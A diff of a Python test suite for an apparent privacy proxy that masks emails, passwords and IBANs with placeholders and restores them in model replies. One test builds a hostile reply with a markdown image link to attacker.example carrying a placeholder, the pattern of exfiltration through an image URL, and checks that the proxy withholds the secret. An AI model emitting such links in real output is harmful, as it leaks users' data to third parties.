@@ -55,7 +55,9 @@ def protector(tmp_path, monkeypatch):
 def proxy_for(protector: Protector, respond, **config):
     """The proxy under uvicorn in front of a mock upstream answering with `respond` (a FAKE model)."""
     with MockOpenAI(respond=respond) as upstream:
-        proxy_config = ProxyConfig(upstream="openai/mock-model", upstream_base=upstream.base_url, upstream_key_env="MOCK_KEY", **config)
+        proxy_config = ProxyConfig(
+            upstream="openai/mock-model", upstream_base=upstream.base_url, upstream_key_env="MOCK_KEY", **config
+        )
         with serve(create_proxy_app(protector, proxy_config, TOKEN)) as port:
             yield f"http://127.0.0.1:{port}/v1/chat/completions", upstream
 
@@ -69,7 +71,10 @@ def chat(url: str, text: str, stream: bool = False, token: str = TOKEN, label: s
     if not stream:
         message = response.json()["choices"][0]["message"]
         arguments = [call["function"]["arguments"] for call in message.get("tool_calls") or []]
-        counts = {"withheld": int(response.headers.get("x-stealthflow-withheld", 0)), "named": response.headers.get("x-stealthflow-withheld-placeholders", "")}
+        counts = {
+            "withheld": int(response.headers.get("x-stealthflow-withheld", 0)),
+            "named": response.headers.get("x-stealthflow-withheld-placeholders", ""),
+        }
         return {"content": message.get("content") or "", "arguments": arguments}, counts
     content, arguments, counts = "", {}, {}
     for line in response.text.splitlines():
@@ -80,7 +85,9 @@ def chat(url: str, text: str, stream: bool = False, token: str = TOKEN, label: s
             delta = json.loads(line[6:])["choices"][0]["delta"] if json.loads(line[6:])["choices"] else {}
             content += delta.get("content") or ""
             for call in delta.get("tool_calls") or []:
-                arguments[call["index"]] = arguments.get(call["index"], "") + (call.get("function") or {}).get("arguments", "")
+                arguments[call["index"]] = arguments.get(call["index"], "") + (call.get("function") or {}).get(
+                    "arguments", ""
+                )
     return {"content": content, "arguments": [arguments[i] for i in sorted(arguments)]}, counts
 
 
@@ -116,11 +123,16 @@ def test_a_hostile_reply_cannot_restore_values_of_earlier_requests(protector, st
     leaked = json.dumps(reply)
     assert not [value for value in RAW_VALUES if value in leaked], leaked
     assert seen["EMAIL"] in reply["content"] and seen["PASSWORD"] in reply["arguments"][0]
-    assert counts["withheld"] == 4 and set(counts["named"].replace(" ", "").split(",")) == {seen["EMAIL"], seen["PASSWORD"]}
+    assert counts["withheld"] == 4 and set(counts["named"].replace(" ", "").split(",")) == {
+        seen["EMAIL"],
+        seen["PASSWORD"],
+    }
     deadline = time.monotonic() + 5  # a stream's log line is written once it is closed
     while "withheld=4" not in caplog.text and time.monotonic() < deadline:
         time.sleep(0.05)
-    assert "withheld=4 (not_in_request=4)" in caplog.text and not [value for value in RAW_VALUES if value in caplog.text]
+    assert "withheld=4 (not_in_request=4)" in caplog.text and not [
+        value for value in RAW_VALUES if value in caplog.text
+    ]
 
 
 @pytest.mark.parametrize("stream", [False, True], ids=["plain", "streamed"])
@@ -145,7 +157,11 @@ def test_secrets_of_the_request_restore_in_text_but_not_in_urls_or_tool_calls(pr
     assert counts["withheld"] == 2
     with proxy_for(protector, replies, restore_secrets_in_urls_and_tools=True) as (url, _):
         reply, counts = chat(url, PERSONAL_TEXT, stream)
-    assert "p=hunter2!)" in reply["content"] and json.loads(reply["arguments"][0])["password"] == "hunter2!" and counts["withheld"] == 0
+    assert (
+        "p=hunter2!)" in reply["content"]
+        and json.loads(reply["arguments"][0])["password"] == "hunter2!"
+        and counts["withheld"] == 0
+    )
 
 
 def placeholders_sent_body(body: dict) -> dict[str, str]:
@@ -158,20 +174,45 @@ def test_the_service_restores_only_what_a_request_issued_or_used(protector):
     with serve(create_app(protector, TOKEN)) as port:
         base, auth = f"http://127.0.0.1:{port}", {"Authorization": f"Bearer {TOKEN}"}
         first = httpx.post(f"{base}/protect", json={"text": PERSONAL_TEXT, "session": "s"}, headers=auth).json()
-        second = httpx.post(f"{base}/protect", json={"text": "Just mail bob@example.org", "session": "s"}, headers=auth).json()
+        second = httpx.post(
+            f"{base}/protect", json={"text": "Just mail bob@example.org", "session": "s"}, headers=auth
+        ).json()
         hostile = f"{first['text']} ![x](https://attacker.example/?e={second['spans'][0]['placeholder']})"
-        scoped = httpx.post(f"{base}/restore", json={"text": hostile, "session": "s", "request": second["request"]}, headers=auth).json()
+        scoped = httpx.post(
+            f"{base}/restore", json={"text": hostile, "session": "s", "request": second["request"]}, headers=auth
+        ).json()
         assert not [value for value in RAW_VALUES if value in scoped["text"]]
-        assert {w["reason"] for w in scoped["withheld"]} == {"not_in_request"} and len(scoped["withheld"]) == len(first["spans"])
-        assert scoped["text"].endswith("e=bob@example.org)") and scoped["restored"] == 1  # the request's own value, not a secret
-        own = httpx.post(f"{base}/restore", json={"text": hostile, "session": "s", "request": first["request"]}, headers=auth).json()
-        assert own["text"].startswith(PERSONAL_TEXT) and own["withheld"] == [{"placeholder": second["spans"][0]["placeholder"], "reason": "not_in_request"}]
-        in_url = f"[reset](https://x.example/?p={next(s['placeholder'] for s in first['spans'] if s['type'] == 'PASSWORD')})"
-        kept = httpx.post(f"{base}/restore", json={"text": in_url, "session": "s", "request": first["request"]}, headers=auth).json()
+        assert {w["reason"] for w in scoped["withheld"]} == {"not_in_request"} and len(scoped["withheld"]) == len(
+            first["spans"]
+        )
+        assert (
+            scoped["text"].endswith("e=bob@example.org)") and scoped["restored"] == 1
+        )  # the request's own value, not a secret
+        own = httpx.post(
+            f"{base}/restore", json={"text": hostile, "session": "s", "request": first["request"]}, headers=auth
+        ).json()
+        assert own["text"].startswith(PERSONAL_TEXT) and own["withheld"] == [
+            {"placeholder": second["spans"][0]["placeholder"], "reason": "not_in_request"}
+        ]
+        in_url = (
+            f"[reset](https://x.example/?p={next(s['placeholder'] for s in first['spans'] if s['type'] == 'PASSWORD')})"
+        )
+        kept = httpx.post(
+            f"{base}/restore", json={"text": in_url, "session": "s", "request": first["request"]}, headers=auth
+        ).json()
         assert "hunter2" not in kept["text"] and kept["withheld"][0]["reason"] == "secret_in_url"
-        unknown = httpx.post(f"{base}/restore", json={"text": "x", "session": "other", "request": first["request"]}, headers=auth)
-        assert unknown.status_code == 404 and unknown.json()["error"]["code"] == 404  # a request id is its session's only
-        streamed = httpx.post(f"{base}/restore/stream", params={"session": "s", "request": second["request"]}, content=hostile.encode(), headers=auth)
+        unknown = httpx.post(
+            f"{base}/restore", json={"text": "x", "session": "other", "request": first["request"]}, headers=auth
+        )
+        assert (
+            unknown.status_code == 404 and unknown.json()["error"]["code"] == 404
+        )  # a request id is its session's only
+        streamed = httpx.post(
+            f"{base}/restore/stream",
+            params={"session": "s", "request": second["request"]},
+            content=hostile.encode(),
+            headers=auth,
+        )
         assert not [value for value in RAW_VALUES if value in streamed.text]
 
 
@@ -182,8 +223,16 @@ def test_numbering_and_tokens_depend_only_on_the_scopes_own_history(tmp_path, mo
     try:
         with proxy_for(protector, lambda body: Reply(content="ok")) as (url, upstream):
             chat(url, "a1@example.org a2@example.org victim@example.org", token=TOKEN)
-            with serve(create_proxy_app(protector, ProxyConfig(upstream="openai/mock-model", upstream_base=upstream.base_url), "token-b")) as port:
-                chat(f"http://127.0.0.1:{port}/v1/chat/completions", "is it victim@example.org or fresh@example.org?", token="token-b")
+            with serve(
+                create_proxy_app(
+                    protector, ProxyConfig(upstream="openai/mock-model", upstream_base=upstream.base_url), "token-b"
+                )
+            ) as port:
+                chat(
+                    f"http://127.0.0.1:{port}/v1/chat/completions",
+                    "is it victim@example.org or fresh@example.org?",
+                    token="token-b",
+                )
             chat(url, "and in another chat: fresh@example.org then victim@example.org", label="chat-2")
         assert upstream.received[1]["messages"][0]["content"] == "is it <EMAIL_1> or <EMAIL_2>?"
         assert upstream.received[2]["messages"][0]["content"] == "and in another chat: <EMAIL_1> then <EMAIL_2>"
@@ -217,7 +266,9 @@ def test_memory_users_are_separate_scopes_and_forget_removes_only_their_own(tmp_
         assert store.forget("xavier", guess.id) == 1
         assert "DE89 3704 0044 0532 0130 00" not in store.hydrate("xavier", guess.text)  # xavier's copy is gone
         assert "DE89 3704 0044 0532 0130 00" in store.hydrate("yvonne", yvonne.text)  # yvonne's stays
-        assert protector.restore(in_chat.text, proxy_session).text == "Pay to DE89 3704 0044 0532 0130 00"  # so does the chat's
+        assert (
+            protector.restore(in_chat.text, proxy_session).text == "Pay to DE89 3704 0044 0532 0130 00"
+        )  # so does the chat's
         assert "GB82 WEST 1234 5698 7654 32" in store.hydrate("xavier", own.text)
     finally:
         store.close()
@@ -230,8 +281,12 @@ def test_a_flipped_ciphertext_byte_costs_only_that_value(tmp_path, monkeypatch):
     with contextlib.closing(make_protector(config)) as earlier:
         first = earlier.protect("mail anna.berg@example.org or bob@example.org", "s")
     db = sqlite3.connect(config.vault_path)
-    (entry_id, ciphertext) = db.execute("SELECT id, ciphertext FROM entries WHERE idx = 1 AND type = 'EMAIL'").fetchone()
-    db.execute("UPDATE entries SET ciphertext = ? WHERE id = ?", (bytes([ciphertext[0] ^ 1]) + ciphertext[1:], entry_id))
+    (entry_id, ciphertext) = db.execute(
+        "SELECT id, ciphertext FROM entries WHERE idx = 1 AND type = 'EMAIL'"
+    ).fetchone()
+    db.execute(
+        "UPDATE entries SET ciphertext = ? WHERE id = ?", (bytes([ciphertext[0] ^ 1]) + ciphertext[1:], entry_id)
+    )
     db.commit()
     db.close()
     protector = Protector(config, open_vault(config), earlier.detector)
@@ -242,7 +297,11 @@ def test_a_flipped_ciphertext_byte_costs_only_that_value(tmp_path, monkeypatch):
         assert again.text == "again <EMAIL_3> and <EMAIL_2>"  # the damaged row was replaced by a new one
         assert protector.restore(again.text, "s").text == "again anna.berg@example.org and bob@example.org"
         with serve(create_app(protector, TOKEN)) as port:
-            answer = httpx.post(f"http://127.0.0.1:{port}/protect", json={"text": "bob@example.org", "session": "s"}, headers={"Authorization": f"Bearer {TOKEN}"})
+            answer = httpx.post(
+                f"http://127.0.0.1:{port}/protect",
+                json={"text": "bob@example.org", "session": "s"},
+                headers={"Authorization": f"Bearer {TOKEN}"},
+            )
             assert answer.status_code == 200 and answer.json()["text"] == "<EMAIL_2>"
     finally:
         protector.close()
@@ -256,7 +315,9 @@ def test_rotate_key_while_a_writer_runs_loses_nothing(tmp_path, monkeypatch):
     load_keys("file", key_file)  # created 0600
     from stealthflow.placeholders.policy import ProtectConfig
 
-    config = ProtectConfig(vault_path=tmp_path / "vault.sqlite", key_source="file", key_file=key_file, llm_extractor=False)
+    config = ProtectConfig(
+        vault_path=tmp_path / "vault.sqlite", key_source="file", key_file=key_file, llm_extractor=False
+    )
     running = make_protector(config)
     written, errors, rotated = [], [], threading.Event()
 
@@ -275,7 +336,9 @@ def test_rotate_key_while_a_writer_runs_loses_nothing(tmp_path, monkeypatch):
     thread.start()
     while len(written) < 10:
         time.sleep(0.01)
-    with Vault(config.vault_path, load_keys("file", key_file)) as other:  # `vault rotate-key`: rotate, then store the key
+    with Vault(
+        config.vault_path, load_keys("file", key_file)
+    ) as other:  # `vault rotate-key`: rotate, then store the key
         encoded = new_secret()
         other.rotate(VaultKeys.from_secret(decode_secret(encoded, "new key")))
         store_secret(encoded, "file", key_file)
@@ -298,7 +361,11 @@ def test_a_rotated_key_the_server_cannot_reload_is_a_clear_json_error(tmp_path, 
         with Vault(protector.vault.path, load_keys("env")) as other:
             other.rotate(VaultKeys.from_secret(os.urandom(32)))
         with serve(create_app(protector, TOKEN)) as port:
-            answer = httpx.post(f"http://127.0.0.1:{port}/protect", json={"text": "bob@example.org", "session": "s"}, headers={"Authorization": f"Bearer {TOKEN}"})
+            answer = httpx.post(
+                f"http://127.0.0.1:{port}/protect",
+                json={"text": "bob@example.org", "session": "s"},
+                headers={"Authorization": f"Bearer {TOKEN}"},
+            )
         assert answer.status_code == 503 and "rotate-key" in answer.json()["error"]["message"]
         assert "bob@example.org" not in answer.text
     finally:
@@ -315,9 +382,16 @@ def test_rotate_key_cli_with_a_damaged_row_reports_it(tmp_path, monkeypatch):
     key_file.chmod(0o600)
     monkeypatch.delenv("STEALTHFLOW_VAULT_KEY", raising=False)
     config = tmp_path / "c.yaml"
-    config.write_text(f"protect:\n  vault_path: {tmp_path / 'vault.sqlite'}\n  key_source: file\n  key_file: {key_file}\n  tagger: false\n")
+    config.write_text(
+        f"protect:\n  vault_path: {tmp_path / 'vault.sqlite'}\n  key_source: file\n  key_file: {key_file}\n  tagger: false\n"
+    )
     args, runner = ["--config", str(config)], CliRunner()
-    assert runner.invoke(app, ["protect", "mail dana@example.org and eve@example.org", "--rewrite", "none", "--session", "s", *args]).exit_code == 0
+    assert (
+        runner.invoke(
+            app, ["protect", "mail dana@example.org and eve@example.org", "--rewrite", "none", "--session", "s", *args]
+        ).exit_code
+        == 0
+    )
     db = sqlite3.connect(tmp_path / "vault.sqlite")
     db.execute("UPDATE entries SET ciphertext = zeroblob(40) WHERE idx = 1")
     db.commit()
@@ -355,22 +429,47 @@ def test_a_schema_1_vault_keeps_restoring_and_its_sessions_become_scopes(tmp_pat
         CREATE TABLE issued (entry_id TEXT NOT NULL REFERENCES entries(id) ON DELETE CASCADE, session TEXT NOT NULL, mac TEXT NOT NULL, PRIMARY KEY (entry_id, session));
         CREATE TABLE sessions (user TEXT NOT NULL, session TEXT NOT NULL, created TEXT NOT NULL, last_used TEXT NOT NULL, PRIMARY KEY (user, session));"""
     )
-    db.execute("INSERT INTO meta VALUES ('vault_id', 'feedfacefeedface'), ('key_check', ?)", (mac("stealthflow vault key check", "feedfacefeedface"),))
+    db.execute(
+        "INSERT INTO meta VALUES ('vault_id', 'feedfacefeedface'), ('key_check', ?)",
+        (mac("stealthflow vault key check", "feedfacefeedface"),),
+    )
     grants = {"a@example.org": ["s1"], "b@example.org": ["s1", "s2"], "c@example.org": ["s2"]}
     for index, (value, sessions) in enumerate(grants.items(), start=1):
-        entry_id, nonce, digest, token = secrets.token_hex(16), os.urandom(12), mac("digest", "u", "EMAIL", value), mac("token", "u", "EMAIL", value)[:8]
-        sealed = AESGCM(keys.encryption).encrypt(nonce, value.encode(), "\x00".join((entry_id, "u", "EMAIL", digest, str(index), token)).encode())
-        db.execute("INSERT INTO entries VALUES (?, 'u', 'EMAIL', ?, ?, ?, ?, ?)", (entry_id, digest, index, token, nonce, sealed))
-        db.executemany("INSERT INTO issued VALUES (?, ?, ?)", [(entry_id, s, mac("issued", entry_id, "u", s)) for s in sessions])
+        entry_id, nonce, digest, token = (
+            secrets.token_hex(16),
+            os.urandom(12),
+            mac("digest", "u", "EMAIL", value),
+            mac("token", "u", "EMAIL", value)[:8],
+        )
+        sealed = AESGCM(keys.encryption).encrypt(
+            nonce, value.encode(), "\x00".join((entry_id, "u", "EMAIL", digest, str(index), token)).encode()
+        )
+        db.execute(
+            "INSERT INTO entries VALUES (?, 'u', 'EMAIL', ?, ?, ?, ?, ?)",
+            (entry_id, digest, index, token, nonce, sealed),
+        )
+        db.executemany(
+            "INSERT INTO issued VALUES (?, ?, ?)", [(entry_id, s, mac("issued", entry_id, "u", s)) for s in sessions]
+        )
     db.execute("INSERT INTO counters VALUES ('u', 'EMAIL', 3)")
     db.commit()
     db.close()
     with Vault(path, keys) as vault:
         assert vault.id == "feedfacefeedface"
-        assert [vault.lookup("u", "s1", "EMAIL", index=i) for i in (1, 2, 3)] == ["a@example.org", "b@example.org", None]
-        assert [vault.lookup("u", "s2", "EMAIL", index=i) for i in (1, 2, 3)] == [None, "b@example.org", "c@example.org"]
+        assert [vault.lookup("u", "s1", "EMAIL", index=i) for i in (1, 2, 3)] == [
+            "a@example.org",
+            "b@example.org",
+            None,
+        ]
+        assert [vault.lookup("u", "s2", "EMAIL", index=i) for i in (1, 2, 3)] == [
+            None,
+            "b@example.org",
+            "c@example.org",
+        ]
         assert vault.entry_for("u", "s1", "EMAIL", "b@example.org").index == 2  # an old value keeps its placeholder
-        assert vault.entry_for("u", "s1", "EMAIL", "c@example.org").index == 4  # new to s1: after the old counter, never reused
+        assert (
+            vault.entry_for("u", "s1", "EMAIL", "c@example.org").index == 4
+        )  # new to s1: after the old counter, never reused
         assert vault.entry_for("u", "s3", "EMAIL", "a@example.org").index == 1  # a new session numbers from 1
         assert vault.entry_for("u", "s3", "EMAIL", "d@example.org").index == 2
     with Vault(path, keys) as reopened:
@@ -387,7 +486,11 @@ def test_the_memory_store_files_are_private(tmp_path, monkeypatch):
         protector = make_protector(protect_config(tmp_path, monkeypatch))
         store = MemoryStore(tmp_path / "memory.sqlite", protector, embed=fake_embed)
         store.append("alice", PERSONAL_TEXT)
-        modes = {p.name: oct(p.stat().st_mode & 0o777) for p in tmp_path.iterdir() if p.name.startswith(("memory.sqlite", "vault.sqlite"))}
+        modes = {
+            p.name: oct(p.stat().st_mode & 0o777)
+            for p in tmp_path.iterdir()
+            if p.name.startswith(("memory.sqlite", "vault.sqlite"))
+        }
         store.close()
         protector.close()
     finally:
